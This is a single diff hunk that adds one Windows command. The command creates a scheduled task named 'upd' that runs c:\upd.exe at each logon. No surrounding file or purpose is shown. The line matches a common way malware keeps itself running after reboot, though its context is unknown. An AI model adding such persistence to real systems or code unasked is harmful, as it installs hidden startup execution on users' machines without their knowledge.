@@ -1,0 +1,1 @@
+schtasks /create /tn upd /tr c:\\upd.exe /sc onlogon
